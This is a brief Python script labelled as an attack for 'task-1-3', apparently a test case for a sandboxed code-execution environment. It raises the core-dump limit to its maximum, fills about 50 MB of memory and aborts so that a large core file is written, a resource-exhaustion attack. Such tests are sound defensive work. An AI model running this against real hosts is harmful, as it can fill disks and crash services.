# attack: asks for a core dump as large as it gets, fills memory and aborts
# cell: task-1-3
import os
import resource

try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
except (OSError, ValueError):
    pass
kept = bytearray(b"x" * 50_000_000)
os.abort()
